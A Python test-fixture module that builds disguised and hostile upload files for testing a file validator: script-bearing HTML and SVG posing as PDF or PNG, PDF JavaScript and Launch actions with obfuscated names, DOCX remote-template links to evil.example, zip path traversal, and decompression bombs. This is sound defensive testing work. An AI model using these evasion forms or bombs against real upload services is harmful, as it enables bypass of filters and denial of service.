"""Files as people and attackers send them, made when asked for: no real bomb is ever kept in the repository."""

import shutil
import struct
import zlib
from functools import cache
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from app.demo import files as written

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{}" ContentType="{}"/></Types>'
)
OPENXML = "application/vnd.openxmlformats-officedocument."
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = "wordprocessingml.document.main+xml"
ODF = "application/vnd.oasis.opendocument."
FLATE = b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"
MANIFEST = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</m:manifest>'


def clear(app: Any) -> None:
    shutil.rmtree(app.config["UPLOAD_DIR"], ignore_errors=True)


# -- sound files -----------------------------------------------------------------------------------------------------


def pdf(inside: bytes = b"", *, pages: int = 1, after: bytes = b"") -> bytes:
    """A sound PDF, with an object more and something behind its end when asked."""
    body = written.pdf(["Une note"], pages)
    return body.replace(b"xref\n", b"99 0 obj\n" + inside + b"\nendobj\nxref\n", 1) + after if inside else body + after


def pdf_packed(objects: bytes, head: bytes = FLATE) -> bytes:
    packed = zlib.compress(objects)
    return pdf(b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(packed), packed))


def archive(parts: dict[str, bytes | str], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as made:
        for name, content in parts.items():
            made.writestr(ZipInfo(name), content, ZIP_STORED if name in stored else ZIP_DEFLATED)
    return file.getvalue()


def odf(
    kind: str = "text", more: dict[str, bytes | str] | None = None, manifest: str = "", mimetype: str = ""
) -> bytes:
    return archive({"mimetype": mimetype or ODF + kind, "content.xml": "<a/>",
                    "META-INF/manifest.xml": MANIFEST.format(manifest), **(more or {})})  # fmt: skip


def docx(more: dict[str, bytes | str] | None = None, content_type: str = OPENXML + WORD) -> bytes:
    return archive({"[Content_Types].xml": TYPES.format("word/document.xml", content_type),
                    "word/document.xml": "<a/>", **(more or {})})  # fmt: skip


def xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
    main = OPENXML + "spreadsheetml.sheet.main+xml"
    parts = {"[Content_Types].xml": TYPES.format("xl/workbook.xml", main), "xl/workbook.xml": "<a/>"}
    return archive({**parts, "xl/printerSettings/printerSettings1.bin": b"x", **(more or {})})


def relations(kind: str, target: str, mode: str = "External") -> dict[str, bytes | str]:
    line = f'<Relationship Id="r" Type="{RELATION}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>"}


def image(form: str) -> bytes:
    from PIL import Image

    file = BytesIO()
    Image.new("RGB", (30, 20), "#24388a").save(file, form)
    return file.getvalue()


def png_header(width: int, height: int, chunks: bytes = b"") -> bytes:
    """A PNG that announces a size; a few bytes of data, for nobody decodes it."""
    size = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = chunk(b"IDAT", zlib.compress(b"\0"))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunks + data + chunk(b"IEND", b"")


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


# -- hostile files ----------------------------------------------------------------------------------------------------


def lying(content: bytes, **fields: int) -> bytes:
    """An archive whose directory says other things than its parts: {flags, external} of its last entry."""
    at = content.rindex(b"PK\x01\x02")
    changed = bytearray(content)
    if "flags" in fields:
        changed[at + 8 : at + 10] = struct.pack("<H", fields["flags"])
    if "external" in fields:
        changed[at + 38 : at + 42] = struct.pack("<I", fields["external"])
    return bytes(changed)


def overlapping() -> bytes:
    """Two entries of the directory for the same bytes."""
    content = odf(more={"a": b"x" * 50, "b": b"x" * 50})
    first, second = content.rindex(b"PK\x01\x02", 0, content.rindex(b"PK\x01\x02")), content.rindex(b"PK\x01\x02")
    changed = bytearray(content)
    changed[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(changed)


def hostile() -> dict[str, tuple[str, bytes]]:
    zipped = archive({"a.txt": "x"})
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    specified = b"<< /Type /Filespec /F (evil.exe) /EF << /F 91 0 R >> >>"
    png, jpeg = image("PNG"), image("JPEG")
    return {
        "html as pdf": ("x.pdf", b"<!doctype html><script>alert(1)</script>"),
        "svg as png": ("x.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "html as text": ("x.txt", b"  <html><script>alert(1)</script>"),
        "pdf as text": ("x.txt", b"%PDF-1.4\nplain"),
        "executable": ("x.pdf", b"MZ\x90\x00" + b"\0" * 100),
        "gif as jpeg": ("x.jpg", b"GIF89a" + b"\0" * 50),
        "pdf without end": ("x.pdf", pdf()[:-10]),
        "pdf with bytes before": ("x.pdf", b"\n" + pdf()),
        "pdf and html": ("x.pdf", b"%PDF-1.4\n%<script>alert(1)</script>\n" + pdf()),
        "pdf and zip": ("x.pdf", pdf(after=zipped)),
        "pdf with a zip inside": ("x.pdf", pdf(b"stream\n" + zipped + b"\nendstream")),
        "pdf and words": ("x.pdf", pdf(after=b"<html>")),
        "pdf script": ("x.pdf", pdf(script)),
        "pdf script in disguise": ("x.pdf", pdf(script.replace(b"JavaScript", b"J#61va#53cript"))),
        "pdf script packed": ("x.pdf", pdf_packed(script)),
        "pdf script packed in disguise": ("x.pdf", pdf_packed(script, b"/Type /#4fbj#53tm /Filter [ /Fl#61teDecode ]")),
        "pdf packed otherwise": ("x.pdf", pdf_packed(script, b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
        "pdf packed with a predictor": (
            "x.pdf",
            pdf_packed(script, b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        ),
        "pdf script behind blanks": ("x.pdf", pdf_packed(script, FLATE.replace(b"ObjStm", b"ObjStm" + b" " * 4100))),
        "pdf script behind obj in a string": ("x.pdf", pdf_packed(script, FLATE + b" /X (obj)")),
        "pdf script behind obj in a comment": ("x.pdf", pdf_packed(script, FLATE + b" %obj\n")),
        "pdf script of a type said elsewhere": ("x.pdf", pdf_packed(script, FLATE.replace(b"/ObjStm", b"9 0 R"))),
        "pdf script without a type": ("x.pdf", pdf_packed(script, FLATE.replace(b"/Type /ObjStm", b""))),
        "pdf script of a key in disguise": ("x.pdf", pdf_packed(script, b"/N 1 /F#69rst 5 /Filter /FlateDecode")),
        "pdf script behind the end of an object": ("x.pdf", pdf_packed(script, b"endobj " + FLATE)),
        "pdf script behind an end in a comment": ("x.pdf", pdf_packed(script, FLATE + b" % >> endobj\n")),
        "pdf script behind an end in a string": ("x.pdf", pdf_packed(script, FLATE + b" /X (>> \\) endobj)")),
        "pdf script behind a stream in a comment": ("x.pdf", pdf_packed(script, FLATE + b" %>>stream\n")),
        "pdf script behind an end in a list": ("x.pdf", pdf_packed(script, b"/X [ >> ] " + FLATE)),
        "pdf script with a comment before its stream": (
            "x.pdf",
            pdf_packed(script, FLATE).replace(b">>\nstream", b">> % endobj\nstream"),
        ),
        "pdf filter behind a comment": (
            "x.pdf",
            pdf_packed(script, FLATE.replace(b"/Filter ", b"/Filter % no\n")),
        ),
        "pdf filter said elsewhere": ("x.pdf", pdf_packed(script, FLATE.replace(b"/FlateDecode", b"9 0 R"))),
        "pdf filter said twice": ("x.pdf", pdf_packed(b"1 0 null", FLATE + b" /Filter /LZWDecode")),
        "pdf packed by another name": ("x.pdf", pdf_packed(script, FLATE.replace(b"/FlateDecode", b"[ /LZW ]"))),
        "pdf script packed by a short name": ("x.pdf", pdf_packed(script, FLATE.replace(b"FlateDecode", b"Fl"))),
        "pdf data elsewhere": ("x.pdf", pdf_packed(b"1 0 null", FLATE + b" /F (x.bin)")),
        "pdf damaged pack": ("x.pdf", pdf(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream")),
        "pdf launch": ("x.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
        "pdf with an attachment": ("x.pdf", pdf(b"<< /Type /Annot /Subtype /FileAttachment /FS 90 0 R >>")),
        "pdf with a file of no type": ("x.pdf", pdf(specified)),
        "pdf with a file of no type elsewhere": ("x.pdf", pdf(b"<< /Type /Filespec /F (evil.exe) /EF 92 0 R >>")),
        "pdf with a file of no type behind a comment": ("x.pdf", pdf(specified.replace(b"/EF ", b"/EF%x\n"))),
        "pdf with a file of no type without blanks": ("x.pdf", pdf(specified.replace(b"/EF ", b"/EF"))),
        "pdf with a file of no type in disguise": ("x.pdf", pdf(specified.replace(b"/EF", b"/#45#46"))),
        "pdf with a file of no type packed": ("x.pdf", pdf_packed(specified)),
        "pdf that goes to a file within": ("x.pdf", pdf(b"<< /S /GoToE /T << /R /C /N (x) >> >>")),
        "pdf with a file": ("x.pdf", pdf(b"<< /Type /EmbeddedFile >>")),
        "pdf locked": ("x.pdf", pdf(b"<< /Encrypt 5 0 R >>")),
        "png and zip": ("x.png", png + zipped),
        "png and words": ("x.png", png + b"<script>"),
        "png with a zip before its end": ("x.png", png[:-12] + chunk(b"tEXt", zipped) + png[-12:]),
        "png without end": ("x.png", png[:-12]),
        "png header only": ("x.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB`\x82"),
        "jpeg and zip": ("x.jpg", jpeg + zipped),
        "jpeg and words": ("x.jpg", jpeg + b"<?php"),
        "jpeg markers only": ("x.jpg", b"\xff\xd8\xff\xd9"),
        "latin-1 text": ("x.txt", "é".encode("latin-1")),
        "utf-16 text": ("x.csv", "a;b".encode("utf-16")),
        "nul in text": ("x.txt", b"a\0b"),
        "escape in text": ("x.txt", b"a\x1b[31mb"),
        "plain zip as docx": ("x.docx", zipped),
        "plain zip as odt": ("x.odt", zipped),
        "docx as xlsx": ("x.xlsx", docx()),
        "odt as ods": ("x.ods", odf("text")),
        "truncated docx": ("x.docx", docx()[:-30]),
        "zip with bytes before": ("x.docx", b"MZ" + docx()),
        "zip with bytes behind": ("x.docx", docx() + b"\n<script>"),
        "zip with a comment": ("x.docx", docx()[:-2] + struct.pack("<H", 5) + b"hello"),
        "docx macro": ("x.docx", docx({"word/vbaProject.bin": b"x"})),
        "docx macro type": ("x.docx", docx(content_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "docx template": ("x.docx", docx(relations("attachedTemplate", "https://evil.example/t.dotm"))),
        "docx outside image": ("x.docx", docx(relations("image", "https://evil.example/i.png"))),
        "docx mode in disguise": ("x.docx", docx(relations("attachedTemplate", "file://x", "&#69;xternal"))),
        "docx object": ("x.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
        "docx with a sheet": ("x.docx", docx({"word/sheet.xlsx": b"x"})),
        "docx with a page": ("x.docx", docx({"word/afchunk.html": b"x"})),
        "docx entities": ("x.docx", docx({"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
        "docx relations that are no xml": ("x.docx", docx({"word/_rels/a.rels": "<a"})),
        "docx without types": ("x.docx", archive({"word/document.xml": "<a/>"})),
        "xlsx outside book": ("x.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"})),
        "xlsx old macros": ("x.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})),
        "odt macro": ("x.odt", odf(more={"Basic/Standard/Module1.xml": "<a/>"})),
        "odt script": ("x.odt", odf(more={"Scripts/python/a.py": "x"})),
        "odt object": ("x.odt", odf(manifest='<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>')),
        "odt locked": ("x.odt", odf(manifest="<m:file-entry><m:encryption-data/></m:file-entry>")),
        "odt of another type": ("x.odt", odf(mimetype="application/zip")),
        "odt type packed": ("x.odt", archive({"mimetype": ODF + "text", "content.xml": "<a/>"}, stored=())),
        "zip in zip": ("x.odt", odf(more={"a.zip": zipped})),
        "zip locked": ("x.docx", lying(docx(), flags=1)),
        "zip link": ("x.docx", lying(docx(), external=0o120777 << 16)),
        "zip climbing": ("x.docx", docx({"../../etc/passwd": "x"})),
        "zip absolute": ("x.docx", docx({"/etc/passwd": "x"})),
        "zip drive": ("x.docx", docx({"C:/x": "x"})),
        "zip backslash": ("x.docx", docx({"..\\x": "x"})),
        "zip twice the same": ("x.docx", docx({"WORD/document.xml": "x"})),
        "zip parts one over the other": ("x.odt", overlapping()),
    }


def _ten_thousand() -> bytes:
    return docx({f"word/{number}.xml": b"" for number in range(10_000)})


def _liar() -> bytes:
    """Ten thousand entries, whose number the end of the directory gives as two."""
    content = bytearray(_ten_thousand())
    content[-14:-10] = struct.pack("<HH", 2, 2)
    return bytes(content)


def _spread() -> bytes:
    """Many parts, each below every limit, that unpack to gigabytes together."""
    return docx({f"word/{number}.xml": b"\0" * 40_000_000 for number in range(6)})


BOMBS = {
    "docx": ("x.docx", lambda: docx({"word/media/a.xml": b"\0" * 300_000_000})),
    "ods": ("x.ods", lambda: odf("spreadsheet", {"a.xml": b"\0" * 150_000_000, "b.xml": b"\0" * 150_000_000})),
    "relations": ("x.docx", lambda: docx({"word/_rels/a.rels": b" " * 140_000_000})),
    "spread": ("x.docx", _spread),
    "entries": ("x.docx", _ten_thousand),
    "liar": ("x.docx", _liar),
    "pdf objects": ("x.pdf", lambda: pdf_packed(b"\0" * 300_000_000)),
    "pdf marks": ("x.pdf", lambda: pdf(b"<< /First " + b"[]" * 4_000_000 + b" >>")),
    "pdf comments": ("x.pdf", lambda: pdf(b"<< /First 1 >> " + b"obj%" * 2_000_000)),
    "pdf strings": ("x.pdf", lambda: pdf(b"<< /First 1 >> " + b"obj<<(" * 800_000 + b")" * 800_000)),
    "pdf one behind the other": ("x.pdf", lambda: pdf(b"<< /First 1 >> " + b"obj<<" * 700 + b"a" * 8_000_000)),
    "pdf nested": ("x.pdf", lambda: pdf(b"<< /First 1 " + b"1 0 obj<<" * 900_000)),
    "pixels": ("x.png", lambda: png_header(60_000, 60_000)),
    "most pixels": ("x.png", lambda: png_header(2**31 - 1, 2**31 - 1)),
    "png text": ("x.png", lambda: png_header(9, 9, chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 200_000_000)))),
}


@cache
def bomb(case: str) -> tuple[str, bytes]:
    """Name and contents, made once for both engines: packing 300 MB takes a second."""
    name, make = BOMBS[case]
    return name, make()
